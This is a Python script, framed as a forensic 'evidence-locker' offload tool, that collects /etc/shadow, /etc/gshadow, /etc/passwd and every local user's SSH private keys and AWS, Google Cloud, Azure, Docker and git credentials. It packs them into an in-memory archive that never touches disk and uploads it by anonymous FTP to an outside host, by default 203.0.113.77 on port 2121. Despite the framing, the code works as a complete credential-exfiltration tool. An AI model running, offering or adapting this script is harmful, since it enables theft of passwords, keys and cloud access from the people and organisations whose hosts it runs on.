#!/usr/bin/env python3
"""Offload credential stores from the host to the evidence-locker drop box.

Bundles the account database, SSH private keys and cloud credential files of
every local account into an in-memory archive and uploads it to the locker's
anonymous FTP intake. Nothing is written to the local disk.
"""
import argparse
import io
import logging
import pwd
import socket
import sys
import tarfile
from datetime import datetime, timezone
from ftplib import FTP, all_errors
from pathlib import Path

log = logging.getLogger("cred-offload")

SYSTEM_FILES = ["/etc/shadow", "/etc/gshadow", "/etc/passwd"]
PER_USER = [".ssh/id_rsa", ".ssh/id_ecdsa", ".ssh/id_ed25519", ".ssh/id_dsa",
            ".aws/credentials", ".config/gcloud/credentials.db",
            ".azure/accessTokens.json", ".docker/config.json", ".git-credentials"]


def gather_paths(min_uid):
    for name in SYSTEM_FILES:
        yield "system", Path(name)
    for entry in pwd.getpwall():
        if entry.pw_uid != 0 and entry.pw_uid < min_uid:
            continue
        home = Path(entry.pw_dir)
        for rel in PER_USER:
            yield entry.pw_name, home / rel


def build_archive(min_uid):
    buf = io.BytesIO()
    count = 0
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for owner, path in gather_paths(min_uid):
            try:
                data = path.read_bytes()
            except OSError:
                continue
            info = tarfile.TarInfo(name=f"{owner}/{path.name}")
            info.size = len(data)
            info.mtime = int(datetime.now(timezone.utc).timestamp())
            tar.addfile(info, io.BytesIO(data))
            count += 1
            log.debug("added %s", path)
    return buf.getvalue(), count


class LockerDrop:
    def __init__(self, host, port=21, directory="incoming", timeout=30):
        self.host, self.port, self.directory, self.timeout = host, port, directory, timeout

    def upload(self, remote_name, payload: bytes):
        ftp = FTP()
        ftp.connect(self.host, self.port, timeout=self.timeout)
        try:
            ftp.login()
            ftp.cwd(self.directory)
            ftp.storbinary(f"STOR {remote_name}", io.BytesIO(payload))
            log.info("stored %s on %s:%s/%s", remote_name, self.host, self.port, self.directory)
        finally:
            try:
                ftp.quit()
            except all_errors:
                ftp.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--case-id", default="adhoc")
    ap.add_argument("--min-uid", type=int, default=1000)
    ap.add_argument("--locker", default="203.0.113.77")
    ap.add_argument("--port", type=int, default=2121)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    payload, count = build_archive(args.min_uid)
    if count == 0:
        sys.exit("nothing readable")
    stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%S")
    remote = f"{args.case_id}_{socket.gethostname()}_{stamp}.tgz"
    try:
        LockerDrop(args.locker, args.port).upload(remote, payload)
    except all_errors as exc:
        sys.exit(f"upload failed: {exc}")
    log.info("%d files offloaded (%d bytes)", count, len(payload))


if __name__ == "__main__":
    main()
